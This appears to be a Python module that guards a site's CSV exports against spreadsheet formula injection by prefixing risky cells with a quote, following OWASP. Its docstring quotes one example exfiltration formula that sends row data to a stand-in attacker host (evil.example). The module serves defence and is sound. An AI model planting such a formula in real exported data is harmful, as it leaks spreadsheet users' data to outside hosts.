"""Cells of the CSV files the site writes, made safe to open in a spreadsheet.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A2)`
sends the row away): OWASP's rule is to prefix such a cell with `'`, which spreadsheets show
as text. Numbers are left as numbers, so a negative value stays numeric.

https://owasp.org/www-community/attacks/CSV_Injection
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value` as a CSV cell: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
